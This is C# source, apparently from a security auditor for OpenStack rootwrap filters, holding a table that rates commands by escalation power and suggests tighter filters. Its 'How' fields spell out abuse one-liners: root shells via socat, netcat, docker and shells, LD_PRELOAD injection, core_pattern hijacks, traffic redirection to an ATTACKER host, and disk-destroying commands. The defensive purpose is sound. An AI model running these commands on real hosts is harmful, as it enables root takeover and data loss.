            How = "maps partitions of any device or file", Caps = "CAP_SYS_ADMIN", CapsWhy = "device-mapper ioctls",
            Fix = "`kpartx: RegExpFilter, kpartx, root, kpartx, -a, /dev/nbd[0-9]+`" });
        Add(new() { Name = "blockdev", Power = Power.Admin, Free = Severity.High, TakesPaths = true,
            How = "`blockdev --setrw` / `--flushbufs` on any device", Caps = "CAP_SYS_ADMIN", CapsWhy = "block ioctls",
            Fix = "`blockdev: RegExpFilter, blockdev, root, blockdev, --getsize64, /dev/[a-z0-9/-]+`" });
        Add(new() { Name = "dmsetup", Power = Power.Admin, Free = Severity.High, TakesPaths = true,
            How = "`dmsetup create` maps any range of any disk; `remove` pulls volumes from running guests", Caps = "CAP_SYS_ADMIN", CapsWhy = "device-mapper ioctls",
            Fix = "one RegExpFilter per subcommand" });
        Add(new() { Name = "cryptsetup", Power = Power.Destroy, Free = Severity.High, TakesPaths = true,
            How = "`cryptsetup erase /dev/X` destroys the keys of any encrypted volume", Caps = "CAP_SYS_ADMIN, CAP_IPC_LOCK", CapsWhy = "device-mapper ioctls; locks key memory",
            Fix = @"`cryptsetup: RegExpFilter, cryptsetup, root, cryptsetup, luksOpen, --key-file=-, /dev/[a-z0-9/-]+, crypt-[a-z0-9-]+`" });
        Add(new() { Name = "iscsiadm", Power = Power.Admin, Free = Severity.High,
            How = "`iscsiadm -m discovery -t st -p ATTACKER --login` attaches a disk the caller serves",
            Caps = "", CapsWhy = "talks to iscsid as uid 0 and writes /etc/iscsi, which uid 0 owns",
            Fix = "one RegExpFilter per iscsiadm mode the driver uses, with fixed operations" });
        Add(new() { Name = "multipath", Power = Power.Admin, Free = Severity.Medium, TakesPaths = true,
            How = "`multipath -F` flushes every multipath map under running guests", Caps = "CAP_SYS_ADMIN, CAP_SYS_RAWIO", CapsWhy = "device-mapper ioctls; path checkers send SCSI commands over SG_IO",
            Fix = @"`multipath: RegExpFilter, multipath, root, multipath, -l, /dev/[a-z0-9/-]+`" });
        Add(new() { Name = "multipathd", Power = Power.Admin, Free = Severity.Medium,
            How = "`multipathd del map X` / `reconfigure` controls every multipath device", Caps = "", CapsWhy = "talks to multipathd as uid 0",
            Fix = "`multipathd: RegExpFilter, multipathd, root, multipathd, show, status`" });
        foreach (var name in new[] { "lvcreate", "lvextend", "lvresize", "lvchange", "lvconvert", "vgchange" })
            Add(new() { Name = name, Power = Power.ConfigExec, Free = Severity.Critical, TakesPaths = true,
                How = $"`{name} --config 'global{{fsadm_executable=\"/tmp/x\" thin_check_executable=\"/tmp/x\"}}' ...` makes LVM run the caller's program",
                Operand = Severity.High, OperandHow = "acts on any volume group of the host",
                Caps = "CAP_SYS_ADMIN, CAP_IPC_LOCK, CAP_SYS_NICE", CapsWhy = "device-mapper ioctls; LVM locks its memory and raises its priority while devices are suspended",
                Fix = $@"fix the flags and the volume group: `{name}: RegExpFilter, {name}, root, {name}, -L, \d+[mgMG], -n, volume-[0-9a-f-]+, cinder-volumes`" });
        foreach (var name in new[] { "lvremove", "vgremove", "pvremove", "pvcreate", "vgcreate", "vgextend" })
            Add(new() { Name = name, Power = Power.Destroy, Free = Severity.High, TakesPaths = true,
                How = $"`{name} -f` on any volume or disk destroys it",
                Caps = "CAP_SYS_ADMIN, CAP_IPC_LOCK, CAP_SYS_NICE", CapsWhy = "device-mapper ioctls; LVM locks its memory and raises its priority while devices are suspended",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, -f, cinder-volumes/volume-[0-9a-f-]+`" });
        foreach (var name in new[] { "lvrename", "vgrename" })
            Add(new() { Name = name, Power = Power.Admin, Free = Severity.Medium,
                How = $"`{name}` renames any volume under its users",
                Caps = "CAP_SYS_ADMIN, CAP_IPC_LOCK, CAP_SYS_NICE", CapsWhy = "device-mapper ioctls; LVM locks its memory and raises its priority",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, cinder-volumes, volume-[0-9a-f-]+, volume-[0-9a-f-]+`" });
        foreach (var name in new[] { "pvs", "vgs", "lvs", "lvdisplay", "vgdisplay", "pvdisplay" })
            Add(new() { Name = name, Power = Power.Disclose, Free = Severity.Low,
                How = $"`{name}` reports every volume of the host",
                Caps = "CAP_SYS_ADMIN", CapsWhy = "device-mapper status ioctls",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, --noheadings, -o, [a-z_\\x2c]+, cinder-volumes`" });
        Add(new() { Name = "zfs", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`zfs receive pool/x < stream` then `zfs mount`: a dataset of the caller's making, with a setuid-root shell",
            Caps = "CAP_SYS_ADMIN", CapsWhy = "ZFS ioctls and mounts", Fix = "one RegExpFilter per zfs subcommand with fixed options" });
        Add(new() { Name = "zpool", Power = Power.Destroy, Free = Severity.High,
            How = "`zpool destroy -f POOL` destroys any pool", Caps = "CAP_SYS_ADMIN", CapsWhy = "ZFS ioctls",
            Fix = "one RegExpFilter per zpool subcommand" });
        Add(new() { Name = "exportfs", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`exportfs -o rw,no_root_squash,insecure '*:/'` exports / with root access to anyone",
            Caps = "", CapsWhy = "writes /var/lib/nfs and the nfsd caches, which uid 0 owns",
            Fix = @"fix the options: `exportfs: RegExpFilter, exportfs, root, exportfs, -o, rw\x2csync\x2croot_squash, [0-9./]+:/var/lib/SERVICE/mnt/[0-9a-f-]+`" });
        Add(new() { Name = "mmnfs", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`mmnfs export add / --client '*(Access_Type=RW,Squash=no_root_squash)'` exports / with root access",
            Caps = null, Fix = "one RegExpFilter per mmnfs subcommand with fixed options" });
        foreach (var name in new[] { "mmlinkfileset" })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.High,
                How = $"`{name} FS FSET -J /etc/x` links a fileset at any folder", Caps = "CAP_DAC_OVERRIDE", CapsWhy = "junctions in the service's folders",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, [a-z0-9]+, share-[0-9a-f-]+, -J, /gpfs/[a-z0-9/-]+`" });
        foreach (var name in new[] { "mmdelfileset", "mmunlinkfileset", "mmdelsnapshot" })
            Add(new() { Name = name, Power = Power.Destroy, Free = Severity.High,
                How = $"`{name}` on any fileset of any GPFS filesystem destroys or detaches its data", Caps = "CAP_DAC_OVERRIDE", CapsWhy = "junctions in the service's folders",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, [a-z0-9]+, share-[0-9a-f-]+, -f`" });
        foreach (var name in new[] { "mmcrfileset", "mmchfileset", "mmsetquota", "mmchattr", "mmclone", "mmcrsnapshot" })
            Add(new() { Name = name, Power = Power.Admin, Free = Severity.Medium,
                How = $"`{name}` changes any GPFS filesystem", Caps = name is "mmchattr" or "mmclone" ? "CAP_DAC_OVERRIDE, CAP_FOWNER" : "CAP_DAC_OVERRIDE",
                CapsWhy = "files and junctions owned by the service",
                Fix = $"`{name}: RegExpFilter` with the fileset names the driver makes" });
        foreach (var name in new[] { "mmgetstate", "mmlsattr", "mmlsconfig", "mmlsfs", "mmlspool", "mmlsfileset", "mmlsquota" })
            Add(new() { Name = name, Power = Power.Disclose, Free = Severity.Low,
                How = $"`{name}` reports GPFS cluster state", Caps = "CAP_DAC_READ_SEARCH", CapsWhy = "reads attributes of files in the service's folders",
                Fix = $"`{name}: RegExpFilter` with fixed flags" });
        Add(new() { Name = "gluster", Power = Power.Admin, Free = Severity.High,
            How = "`gluster volume create x HOST:/etc force` turns any folder into a network brick",
            Caps = "", CapsWhy = "talks to glusterd as uid 0", Fix = "one RegExpFilter per gluster subcommand" });
        foreach (var (name, caps, why) in new[] {
            ("tgtadm", null, ""), ("tgt-admin", null, ""), ("scstadmin", null, ""), ("targetcli", "CAP_SYS_MODULE", "configfs files belong to uid 0; modprobe of the target modules"),
            ("nvmetcli", "CAP_SYS_MODULE", "configfs files belong to uid 0; modprobe of nvmet"),
            ("cinder-rtstool", "CAP_SYS_MODULE", "LIO through configfs, whose files uid 0 owns; rtslib loads target_core_mod and iscsi_target_mod"),
            ("iscsictl", "CAP_SYS_ADMIN", "drives the Chelsio iSCSI target through its control device (vendor ioctls)") })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.Critical,
                How = $"`{name}` can export the host's own disk (`/dev/sda`) to an initiator of the caller's choice, who then rewrites it",
                Caps = caps, CapsWhy = why, Fix = $"fix the backing store: `{name}: RegExpFilter` with /dev/cinder-volumes/volume-[0-9a-f-]+ and the operations the driver uses" });
        Add(new() { Name = "rbd", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`rbd export POOL/IMG /etc/cron.d/x` writes an image the caller filled to any file",
            Caps = "", CapsWhy = "talks to Ceph over the network", Fix = "run rbd as the service user (it needs no root)" });

        // ---- services with configuration of the caller's choice ----
        Add(new() { Name = "dnsmasq", Power = Power.ConfigExec, Free = Severity.Critical,
            How = "`dnsmasq --dhcp-script=/tmp/x` runs the caller's script as root on every lease (also `--conf-file`)",
            Caps = "CAP_NET_BIND_SERVICE, CAP_NET_RAW, CAP_NET_ADMIN, CAP_SETUID, CAP_SETGID, CAP_DAC_OVERRIDE", CapsWhy = "ports 53/67, DHCP raw packets and ARP entries, drops to its user, pid and lease files in the service's folder",
            Fix = "start it through the service's privsep context, or keep the CommandFilter and confine it: [Capabilities] as suggested plus [Paths] dnsmasq: rw /var/lib/neutron/dhcp" });
        Add(new() { Name = "haproxy", Power = Power.ConfigExec, Free = Severity.Critical, TakesPaths = true,
            How = "`haproxy -f /tmp/h.cfg` with `external-check command /tmp/x` (or `lua-load`) runs any program as root",
            OperandHow = "a configuration file of the caller's choice: `external-check command /tmp/x` runs any program",
            Caps = "CAP_NET_BIND_SERVICE, CAP_SETUID, CAP_SETGID, CAP_DAC_OVERRIDE", CapsWhy = "binds port 80 in the namespace, drops to its user, pid file in the service's folder",
            Fix = @"`haproxy: RegExpFilter, haproxy, root, haproxy, -f, /var/lib/neutron/ns-metadata-proxy/[0-9a-f-]+\.conf` (the folder is the service's own: confine with [Paths] too)" });
        Add(new() { Name = "keepalived", Power = Power.ConfigExec, Free = Severity.Critical, TakesPaths = true,
            How = "`keepalived -f /tmp/k.conf` runs the config's `notify_master` or `vrrp_script` as root",
            Caps = "CAP_NET_ADMIN, CAP_NET_RAW, CAP_SETUID, CAP_SETGID, CAP_DAC_OVERRIDE", CapsWhy = "VIPs and routes, VRRP and gratuitous ARP, credentials of notify scripts, pid files in the service's folder",
            Fix = @"`keepalived: RegExpFilter, keepalived, root, keepalived, -P, -f, /var/lib/neutron/ha_confs/[0-9a-f-]+/keepalived\.conf, -p, /var/lib/neutron/ha_confs/[0-9a-f-]+\.pid\.keepalived, -r, /var/lib/neutron/ha_confs/[0-9a-f-]+\.pid\.keepalived-vrrp` (the folder is the service's own: confine with [Paths] too)" });
        Add(new() { Name = "dibbler-client", Power = Power.ConfigExec, Free = Severity.Critical, TakesPaths = true,
            How = "`dibbler-client start -w /tmp/d` reads client.conf from the caller's folder, whose `script` runs as root",
            Caps = "CAP_NET_BIND_SERVICE, CAP_NET_RAW, CAP_DAC_OVERRIDE", CapsWhy = "DHCPv6 client port 546, interface-bound sockets, its work folder in the service's folder",
            Fix = @"`dibbler-client: RegExpFilter, dibbler-client, root, dibbler-client, start, -w, /var/lib/neutron/pd/[0-9a-f-]+`" });
        Add(new() { Name = "radvd", Power = Power.ConfigExec, Free = Severity.High, TakesPaths = true,
            How = "`radvd -C /tmp/r.conf -p /etc/passwd` overwrites any file with a pid and announces any route",
            Caps = "CAP_NET_RAW, CAP_SETUID, CAP_SETGID, CAP_DAC_OVERRIDE", CapsWhy = "raw ICMPv6, drops to its user, pid file in the service's folder",
            Fix = @"`radvd: RegExpFilter, radvd, root, radvd, -C, /var/lib/neutron/ra/[0-9a-f-]+\.radvd\.conf, -p, /var/lib/neutron/external/pids/[0-9a-f-]+\.pid\.radvd, -m, syslog`" });
        Add(new() { Name = "smbd", Power = Power.ConfigExec, Free = Severity.Critical, TakesPaths = true,
            How = "`smbd -s /tmp/smb.conf` with `root preexec = /tmp/x` runs any program as root",
            Caps = null, Fix = "start smbd from its systemd unit, not through rootwrap" });
        Add(new() { Name = "net", Power = Power.ConfigExec, Free = Severity.Critical,
            How = "`net conf setparm x 'root preexec' /tmp/x` makes smbd run the caller's program as root on the next connection",
            Caps = "", CapsWhy = "writes Samba's registry, which uid 0 owns",
            Fix = "`net: RegExpFilter, net, root, net, conf, (addshare|delshare|setparm), share-[0-9a-f-]+, ...` with the parameters the driver sets (never `root preexec`)" });
        Add(new() { Name = "smbcontrol", Power = Power.Admin, Free = Severity.Medium,
            How = "`smbcontrol all shutdown` stops every Samba process", Caps = "", CapsWhy = "messages Samba as uid 0",
            Fix = "`smbcontrol: RegExpFilter, smbcontrol, root, smbcontrol, all, close-share, share-[0-9a-f-]+`" });
        Add(new() { Name = "service", Power = Power.Admin, Free = Severity.High,
            How = "`service ssh stop` (or start) controls every service of the host", Caps = null,
            Fix = "`service: RegExpFilter, service, root, service, (smbd|nfs-ganesha), (start|stop|restart|reload)`" });
        Add(new() { Name = "systemctl", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`systemctl link /tmp/x.service && systemctl start x` runs any program as root", Caps = null,
            Fix = "`systemctl: RegExpFilter, systemctl, root, systemctl, (start|stop|reload), nfs-ganesha\\.service`" });
        Add(new() { Name = "docker", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`docker run -v /:/host --privileged debian chroot /host` is a root shell",
            Caps = "", CapsWhy = "talks to dockerd, which is root itself", Fix = "one RegExpFilter per docker subcommand with fixed images and no -v/--privileged" });
        Add(new() { Name = "podman", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`podman run -v /:/host --privileged debian chroot /host` is a root shell", Caps = null, Fix = "one RegExpFilter per subcommand" });
        Add(new() { Name = "virsh", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`virsh define` a domain with the host's root disk, then start it", Caps = "", CapsWhy = "talks to libvirtd", Fix = "use libvirt's own access control instead of rootwrap" });
        Add(new() { Name = "sysctl", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`sysctl -w kernel.core_pattern='|/tmp/x'` runs the caller's program as root at the next crash",
            Caps = "CAP_NET_ADMIN, CAP_SYS_ADMIN", CapsWhy = "writes /proc/sys (net.* in namespaces need NET_ADMIN)",
            Fix = @"`sysctl: RegExpFilter, sysctl, root, sysctl, -w, net\.ipv[46]\.conf\.[a-z0-9-]+\.[a-z_]+=[0-9]+`" });
        foreach (var name in new[] { "modprobe", "insmod" })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
                How = $"`{name}` loads any kernel module (`modprobe -C /tmp/m.conf x` with `install x /tmp/y` runs any program)",
                Caps = "CAP_SYS_MODULE", CapsWhy = "loads modules",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, (nbd|dm-thin-pool|ip_vs)`" });
        Add(new() { Name = "crontab", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`crontab -u root /tmp/x` installs a root cron job", Caps = null, Fix = "drop the filter" });
        foreach (var name in new[] { "passwd", "chpasswd", "useradd", "usermod", "groupadd", "gpasswd", "visudo" })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.Critical,
                How = $"`{name}` edits accounts: a uid-0 user or a root password of the caller's choice", Caps = null, Fix = "drop the filter" });
        foreach (var name in new[] { "reboot", "shutdown", "poweroff", "halt" })
            Add(new() { Name = name, Power = Power.Destroy, Free = Severity.High,
                How = $"`{name}` takes the host down", Caps = "CAP_SYS_BOOT", CapsWhy = "reboot(2)", Fix = "drop the filter" });

        // ---- network ----
        Add(new() { Name = "ip", Power = Power.Chaining, Free = Severity.Critical, Chains = true,
            How = "`ip netns add x; ip netns exec x /bin/sh` (or `ip vrf exec`) is a root shell",
            Caps = "CAP_NET_ADMIN, CAP_SYS_ADMIN", CapsWhy = "network configuration; namespaces need mount and setns",
            Fix = @"one RegExpFilter per subcommand (`ip_link_up: RegExpFilter, ip, root, ip, link, set, (tap|qr-|qg-)[0-9a-f-]+, up`); IpFilter is not enough (`ip vrf exec`)" });
        Add(new() { Name = "ovs-vsctl", Power = Power.Admin, Free = Severity.High,
            How = "`ovs-vsctl -- --id=@m create mirror ...` copies any port's traffic; rewires every bridge",
            Caps = "", CapsWhy = "talks to ovsdb-server over its root-owned socket",
            Fix = "one RegExpFilter per ovs-vsctl command the agent uses, or the OVSDB protocol directly" });
        Add(new() { Name = "ovs-ofctl", Power = Power.Admin, Free = Severity.High,
            How = "`ovs-ofctl add-flow br-int 'actions=output:ATTACKER'` redirects any guest's traffic",
            Caps = "", CapsWhy = "talks to ovs-vswitchd over its root-owned socket",
            Fix = "one RegExpFilter per ovs-ofctl command with fixed bridges" });
        Add(new() { Name = "ovsdb-client", Power = Power.Admin, Free = Severity.High,
            How = "`ovsdb-client transact` writes any row of any OVSDB database",
            Caps = "", CapsWhy = "talks to ovsdb-server over its root-owned socket",
            Fix = "`ovsdb-client: RegExpFilter, ovsdb-client, root, ovsdb-client, monitor, Open_vSwitch, Interface, name,ofport,external_ids, --format=json`, or the agent's own OVSDB connection" });
        Add(new() { Name = "ovs-appctl", Power = Power.Admin, Free = Severity.High,
            How = "`ovs-appctl -t ovs-vswitchd exit` stops switching for the host",
            Caps = "", CapsWhy = "talks to the daemons' control sockets", Fix = "one RegExpFilter per command" });
        Add(new() { Name = "brctl", Power = Power.Admin, Free = Severity.High,
            How = "`brctl addif BRIDGE IFACE` plugs any interface into any bridge", Caps = "CAP_NET_ADMIN", CapsWhy = "bridge configuration",
            Fix = "`brctl: RegExpFilter, brctl, root, brctl, (addbr|delbr), br[0-9a-f-]+`" });
        foreach (var name in new[] { "iptables", "ip6tables", "iptables-restore", "ip6tables-restore", "iptables-legacy", "iptables-nft" })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.Critical,
                How = $"`{name} --modprobe=/tmp/x -m x` runs the caller's program as root", ProgramOptions = ["--modprobe"],
                Caps = "CAP_NET_ADMIN, CAP_NET_RAW", CapsWhy = "netfilter configuration",
                Fix = $"`{name}: RegExpFilter` per rule shape, or use the agent's iptables manager through privsep" });
        foreach (var name in new[] { "iptables-save", "ip6tables-save" })
            Add(new() { Name = name, Power = Power.Disclose, Free = Severity.Low,
                How = $"`{name}` shows the firewall rules", Caps = "CAP_NET_ADMIN, CAP_NET_RAW", CapsWhy = "reads netfilter tables",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, -t, (filter|nat|mangle|raw)`" });
        foreach (var name in new[] { "ebtables", "arptables", "ipset", "tc", "conntrack" })
            Add(new() { Name = name, Power = Power.Admin, Free = name == "conntrack" ? Severity.Medium : Severity.High,
                How = $"`{name}` rewrites the host's packet filtering or shaping", Caps = "CAP_NET_ADMIN", CapsWhy = "netfilter/traffic control",
                Fix = $"one RegExpFilter per {name} command the agent uses" });
        Add(new() { Name = "arping", Power = Power.Admin, Free = Severity.Low,
            How = "`arping -U` announces any address (ARP spoofing)", Caps = "CAP_NET_RAW", CapsWhy = "raw packet socket",
            Fix = @"`arping: RegExpFilter, arping, root, arping, -U, -I, [a-z0-9-]+, -c, \d+, [0-9.]+`" });
        Add(new() { Name = "ping", Power = Power.Harmless, Free = Severity.Info,
            How = "`ping` works without root (ping_group_range)", Caps = "CAP_NET_RAW", CapsWhy = "raw ICMP where unprivileged ICMP is off", Fix = "drop the filter" });
        foreach (var name in new[] { "nc", "netcat", "ncat", "nc.openbsd", "nc.traditional" })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.Critical,
                How = $"`{name} -U /run/docker.sock` reaches root-only sockets (with netcat-traditional, `{name} -e /bin/sh` is a root shell)",
                Caps = "", CapsWhy = "connects as uid 0; binds a privileged port only with CAP_NET_BIND_SERVICE",
                Fix = $@"`{name}: RegExpFilter, {name}, root, {name}, -z, -w, \d+, [0-9.]+, \d+`" });
        Add(new() { Name = "socat", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`socat EXEC:/bin/sh TCP-LISTEN:4444` is a root shell on a port", Caps = "", CapsWhy = "", Fix = "drop the filter" });
        Add(new() { Name = "tcpclient", Power = Power.CodeExec, Free = Severity.Critical,
            How = "`tcpclient 127.0.0.1 53 /tmp/x` runs the caller's program as root",
            Caps = "", CapsWhy = "connects out; the program it runs needs nothing more",
            Fix = @"fix the program: `tcpclient: RegExpFilter, /usr/bin/tcpclient, root, tcpclient, [0-9.]+, 53, axfr-get, [a-z0-9.-]+, /var/lib/designate/[a-z0-9./-]+, /var/lib/designate/[a-z0-9./-]+`" });
        Add(new() { Name = "axfr-get", Power = Power.FileWrite, Free = Severity.High, TakesPaths = true,
            How = "`axfr-get ZONE /etc/cron.d/x /etc/cron.d/x.tmp` writes a zone transfer of the caller's server to any file",
            Caps = "", CapsWhy = "writes files in folders uid 0 owns",
            Fix = @"`axfr-get: RegExpFilter, /usr/bin/axfr-get, root, axfr-get, [a-z0-9.-]+, /var/lib/designate/[a-z0-9.-]+, /var/lib/designate/[a-z0-9.-]+\.tmp`" });
        Add(new() { Name = "tinydns-data", Power = Power.FileWrite, Free = Severity.Low,
            How = "compiles ./data into ./data.cdb as root in the caller's working directory",
            Caps = "", CapsWhy = "writes data.cdb in a folder uid 0 owns", Fix = "run it as the tinydns data folder's owner instead" });
        Add(new() { Name = "rndc", Power = Power.Admin, Free = Severity.Medium,
            How = "`rndc stop` stops BIND; `rndc -c FILE` reads a configuration of the caller's choice",
            Caps = "", CapsWhy = "reads /etc/bind/rndc.key, which uid 0 owns",
            Fix = "`rndc: RegExpFilter, /usr/sbin/rndc, root, rndc, -s, [0-9.]+, -p, \\d+, (addzone|delzone|reload), [a-z0-9.-]+ .*`" });
        Add(new() { Name = "knotc", Power = Power.Admin, Free = Severity.Medium,
            How = "`knotc conf-begin; conf-set ...` rewrites the Knot DNS configuration; `knotc stop` stops it",
            Caps = "", CapsWhy = "talks to knotd's control socket", Fix = "one RegExpFilter per knotc command designate uses" });
        Add(new() { Name = "udevadm", Power = Power.Admin, Free = Severity.Medium,
            How = "`udevadm trigger` replays every device event; `control` changes udevd", Caps = "", CapsWhy = "talks to udevd as uid 0",
            Fix = "`udevadm: RegExpFilter, udevadm, root, udevadm, settle`" });
        Add(new() { Name = "date", Power = Power.Admin, Free = Severity.Medium,
            How = "`date -s 2000-01-01` sets the clock (expired certificates, tokens and Kerberos tickets)", Caps = "CAP_SYS_TIME", CapsWhy = "settimeofday(2)",
            Fix = "drop the filter: reading the date needs no root" });
        Add(new() { Name = "hostname", Power = Power.Admin, Free = Severity.Medium,
            How = "`hostname x` renames the host", Caps = "CAP_SYS_ADMIN", CapsWhy = "sethostname(2)", Fix = "drop the filter" });
        Add(new() { Name = "dbus-send", Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
            How = "`dbus-send --system --dest=org.freedesktop.systemd1 ... StartTransientUnit` starts any command as a root service",
            Operand = Severity.High, OptionWord = Severity.High, OperandHow = "the method's arguments are the caller's (for Ganesha's AddExport, an export file of the caller's choice: `/` exported with Squash = No_Root_Squash)",
            Caps = "", CapsWhy = "talks to the system bus; the bus decides by uid",
            Fix = @"fix every argument: `dbus-addexport: RegExpFilter, dbus-send, root, dbus-send, --print-reply, --system, --dest=org\.ganesha\.nfsd, /org/ganesha/nfsd/ExportMgr, org\.ganesha\.nfsd\.exportmgr\.AddExport, string:/etc/ganesha/export\.d/share-[0-9a-f-]+\.conf, string:EXPORT\(Export_Id=\d+\)`" });
        Add(new() { Name = "blkid", Power = Power.Disclose, Free = Severity.Low, TakesPaths = true,
            How = "`blkid -p /dev/sda1` probes any device", Caps = "", CapsWhy = "reads block devices uid 0 owns",
            Fix = "`blkid: RegExpFilter, blkid, root, blkid, -o, value, -s, TYPE, /dev/[a-z0-9/-]+`" });

        // ---- chaining: they run their operands ----
        Add(new() { Name = "env", Power = Power.Chaining, Free = Severity.Critical, Chains = true,
            How = "`env LD_PRELOAD=/tmp/x.so id` (or `env /tmp/x`) runs any code",
            Caps = "", CapsWhy = "runs its command unchanged", Fix = "an EnvFilter naming the variables and the command" });
        Add(new() { Name = "nice", Power = Power.Chaining, Free = Severity.Critical, Chains = true,
            How = "`nice /tmp/x` runs any program", Caps = "CAP_SYS_NICE", CapsWhy = "a negative niceness",
            Fix = @"`nice: ChainingRegExpFilter, nice, root, nice, -n, -?\d+` (the rest must match another filter)" });
        Add(new() { Name = "ionice", Power = Power.Chaining, Free = Severity.Critical, Chains = true,
            How = "`ionice -c3 /tmp/x` runs any program", Caps = "CAP_SYS_NICE", CapsWhy = "the realtime class (-c1) needs it; best-effort and idle need nothing",
            Fix = "`ionice: ChainingRegExpFilter, ionice, root, ionice, -c[23]` (the rest must match another filter)" });
        Add(new() { Name = "cgexec", Power = Power.Chaining, Free = Severity.Critical, Chains = true,
            How = "`cgexec -g cpu:/ /tmp/x` runs any program", Caps = "", CapsWhy = "joins a cgroup uid 0 owns",
            Fix = @"`cgexec: ChainingRegExpFilter, cgexec, root, cgexec, -g, blkio:cinder-volume-copy`" });
        foreach (var (name, caps, why) in new[] {
            ("timeout", "", ""), ("stdbuf", "", ""), ("setsid", "", ""), ("nohup", "", ""), ("taskset", "", ""), ("flock", "", ""),
            ("chrt", "CAP_SYS_NICE", "real-time scheduling"), ("prlimit", "CAP_SYS_RESOURCE", "raises limits"),
            ("chroot", "CAP_SYS_CHROOT", "chroot(2)"), ("nsenter", "CAP_SYS_ADMIN", "setns(2)"), ("unshare", "CAP_SYS_ADMIN", "new namespaces"),
            ("sudo", null, ""), ("su", null, ""), ("runuser", null, ""), ("setpriv", null, ""), ("capsh", null, ""), ("watch", "", ""), ("time", "", "") })
            Add(new() { Name = name, Power = Power.Chaining, Free = Severity.Critical, Chains = true,
                How = $"`{name} /tmp/x` runs any program", Caps = caps, CapsWhy = why,
                Fix = $"`{name}: ChainingRegExpFilter, {name}, root, {name}, FIXED-OPTIONS` (the rest must match another filter)" });

        // ---- shells and interpreters ----
        foreach (var name in new[] { "sh", "bash", "dash", "ksh", "zsh", "csh", "tcsh", "busybox" })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.Critical, Shell = true, TakesPaths = true,
                How = $"`{name} -c 'cp /bin/sh /tmp/r; chmod 4755 /tmp/r'` runs any command",
                Caps = null, Fix = $"replace the script by a filter for each command it runs; if it must stay, a RegExpFilter whose script pattern admits no shell metacharacters" });
        foreach (var name in new[] { "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "tclsh", "expect", "java" })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
                How = $"`{name}` with a script or `-c`/`-e` of the caller's choice runs any code",
                Caps = null, Fix = "a filter for the specific program instead of its interpreter" });
        foreach (var name in new[] { "vi", "vim", "nano", "emacs", "ed", "man" })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
                How = $"`{name}` writes any file and runs shell commands", Caps = null, Fix = "drop the filter" });
        foreach (var name in new[] { "ssh", "scp", "sftp", "git", "openssl" })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
                How = name switch
                {
                    "openssl" => "`openssl enc -in /etc/shadow` reads and `-out /etc/cron.d/x` writes any file",
                    "git" => "`git -c core.pager='/tmp/x' log` runs any program",
                    _ => $"`{name} -o ProxyCommand=/tmp/x x` runs any program",
                },
                Caps = null, Fix = "run it as the service user" });

        // ---- Python entry points: oslo.config/oslo.log options ----
        foreach (var name in new[] { "neutron-keepalived-state-change", "neutron-ns-metadata-proxy", "neutron-rootwrap-daemon", "nova-rootwrap", "cinder-rootwrap" })
            Add(new() { Name = name, Power = Power.ConfigExec, Free = Severity.Critical, TakesPaths = true,
                How = $"`{name} --log-config-append /tmp/l.ini`: logging.config.fileConfig evaluates that file's `args=`, Python code run as root",
                Caps = name == "neutron-keepalived-state-change" ? "CAP_DAC_OVERRIDE, CAP_SETUID, CAP_SETGID" : null,
                CapsWhy = "pid file in the service's folder, then drops to the service's uid and gid (its privileged calls go through privsep)",
                Fix = $@"`{name}: RegExpFilter` with every option fixed (`--router_id=[0-9a-f-]+`, `--conf_dir=/var/lib/neutron/ha_confs/[0-9a-f-]+`, ...) and no --config-file/--log-config-append" });

        // ---- processes ----
        Add(new() { Name = "kill", Power = Power.Admin, Free = Severity.High,
            How = "`kill -9 PID` signals any process of any user (sshd, the other services)",
            Caps = "CAP_KILL", CapsWhy = "signals processes of other users",
            Fix = "`kill_dnsmasq: KillFilter, root, /usr/sbin/dnsmasq, -9, -HUP` (by absolute path, with signals)" });
        foreach (var name in new[] { "pkill", "killall" })
            Add(new() { Name = name, Power = Power.Admin, Free = Severity.High,
                How = $"`{name} -9 sshd` signals any process", Caps = "CAP_KILL", CapsWhy = "signals processes of other users",
                Fix = "a KillFilter by absolute path with a signal list" });

        // ---- harmless: needs no root ----
        foreach (var name in new[] { "sleep", "true", "false", "echo", "id", "whoami", "uname", "lsblk", "sync", "printf", "basename", "dirname", "readlink", "realpath", "test", "[" })
            Add(new() { Name = name, Power = Power.Harmless, Free = Severity.Info,
                How = $"`{name}` does nothing a user can't", Caps = "", CapsWhy = "needs no privilege",
                Fix = "drop the filter and run the command as the service user" });

        return t;
    }
}

/// <summary>Environment variables an EnvFilter may let through, and what each one changes.</summary>
public static class EnvKnowledge
{
    public sealed record EnvInfo(Severity Severity, string How);

    private static readonly string[] ReadOnlyLvm = ["pvs", "vgs", "lvs", "lvdisplay", "vgdisplay", "pvdisplay"];

    /// <summary>What setting <paramref name="name"/> for <paramref name="command"/> (a basename) can do.</summary>
    public static EnvInfo Lookup(string name, string command)
    {
        if (name.StartsWith("LD_", StringComparison.Ordinal))
